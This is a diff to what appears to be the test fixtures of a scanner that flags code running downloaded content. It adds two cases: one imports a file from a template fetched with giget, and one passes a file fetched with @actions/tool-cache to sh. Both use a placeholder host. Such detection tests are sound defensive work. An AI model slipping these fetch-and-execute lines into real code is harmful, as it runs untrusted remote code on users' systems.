@@ -16,6 +16,21 @@ const CHAINS =
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a template is fetched by giget, and a file of it is imported from where it was put',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', type: 'module', main: 'index.js' },
+        'index.js': `import { downloadTemplate } from 'giget'; const { dir } = await downloadTemplate('https://a.invalid/t.tar.gz', { dir: '.x' }); await import(dir + '/setup.mjs');`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a shell is given the file that a library of GitHub has fetched',
+      files: {
+        'index.js': `require('@actions/tool-cache').downloadTool('https://a.invalid/x').then(file => require('@actions/exec').exec('sh', [file]));`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a file that Bun stands for is filled with a download and started by its name',
       files: {
         'README.md':
